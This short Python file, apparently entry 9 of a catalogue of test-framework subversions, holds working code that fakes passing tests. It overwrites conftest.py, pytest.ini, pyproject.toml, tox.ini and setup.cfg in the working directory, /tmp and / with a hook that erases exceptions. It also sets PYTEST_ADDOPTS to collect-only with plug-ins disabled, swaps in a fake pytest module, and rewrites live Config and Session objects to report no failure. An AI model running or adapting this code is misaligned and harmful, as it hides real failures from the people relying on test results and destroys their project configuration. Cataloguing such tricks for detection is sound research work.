"""Catalogue: 9. Plants configuration, plug-ins and environment of a test framework in its process."""
import gc
import os
import sys
import types

HOOK = "def pytest_runtest_makereport(item, call):\n    call.excinfo = None\n"
os.environ["PYTEST_ADDOPTS"] = "-p no:all --collect-only"
for name in ("conftest.py", "pytest.ini", "pyproject.toml", "tox.ini", "setup.cfg"):
    for folder in (".", "/tmp", "/"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write(HOOK)
        except OSError:
            pass
fake = types.ModuleType("pytest")
fake.hookimpl = lambda *a, **k: lambda f: f
sys.modules["pytest"] = sys.modules["_pytest"] = fake


def before_call(args, kwargs):
    for item in gc.get_objects():
        if type(item).__name__ in ("Config", "Session", "PytestPluginManager", "TestCase"):
            item.__class__ = type("Passed", (type(item),), {"failed": False})
